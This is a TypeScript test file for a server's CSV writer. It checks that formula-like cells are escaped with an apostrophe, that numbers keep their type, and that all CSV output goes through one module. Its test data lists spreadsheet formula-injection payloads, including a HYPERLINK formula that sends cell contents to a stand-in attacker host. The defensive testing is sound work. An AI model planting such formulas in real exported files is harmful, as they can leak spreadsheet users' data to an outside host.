// The one CSV writer: formulas escaped with a readable leading apostrophe, numbers typed, and every CSV of the server written through it.
import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { text } from 'node:stream/consumers';
import test from 'ava';
import { parse } from 'csv-parse/sync';
import { csvStream, csvText } from '../../../server/lib/csv.js';
import { packageRoot } from '../../../server/package-info.js';

const DANGEROUS = ['=HYPERLINK("https://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\uFF1D1+1'];

test('a text cell a spreadsheet would take for a formula gets a leading apostrophe, and reads back with its value intact', (t) => {
  const csv = csvText(
    DANGEROUS.map((value) => [value, 'plain']),
    { columns: ['value', 'other'] },
  );
  const rows = parse(csv, { columns: true, relax_quotes: false }) as { value: string; other: string }[];
  t.deepEqual(
    rows.map((r) => r.value),
    DANGEROUS.map((value) => `'${value}`),
  );
  t.true(rows.every((r) => r.other === 'plain'));
});

test('numbers are typed: a negative number stays a number, the same digits as text are escaped', (t) => {
  const csv = csvText([[-4.5, '-4.5', 0, '', null, undefined, 'a-b', 'x=1']], { columns: ['n', 's', 'zero', 'empty', 'null', 'undefined', 'inner dash', 'inner equals'] });
  t.is(csv.split('\n')[1], `-4.5,'-4.5,0,,,,a-b,x=1`);
});

test('object rows follow the columns; tab-separated output; the stream writes what the text does', async (t) => {
  const rows = [{ b: '=1', a: 2 }, { a: -3, b: 'ok' }];
  t.is(csvText(rows, { columns: ['a', 'b'] }), `a,b\n2,'=1\n-3,ok\n`);
  t.is(csvText([['https://x.example/a', 7, '@x']], { columns: ['url', 'size', 'name'], delimiter: '\t' }), `url\tsize\tname\nhttps://x.example/a\t7\t'@x\n`);
  const stream = csvStream({ columns: ['a', 'b'] });
  for (const row of rows) stream.write(row);
  stream.end();
  t.is(await text(stream), csvText(rows, { columns: ['a', 'b'] }));
});

test('the server writes CSV only through server/lib/csv.ts: no other module imports csv-stringify', async (t) => {
  const server = path.join(packageRoot, 'server');
  const offenders: string[] = [];
  for (const entry of await readdir(server, { recursive: true, withFileTypes: true })) {
    if (!entry.isFile() || !entry.name.endsWith('.ts')) continue;
    const file = path.join(entry.parentPath, entry.name);
    if (path.relative(server, file) === path.join('lib', 'csv.ts')) continue;
    if (/from\s+['"]csv-stringify/.test(await readFile(file, 'utf8'))) offenders.push(path.relative(packageRoot, file));
  }
  t.deepEqual(offenders, []);
});
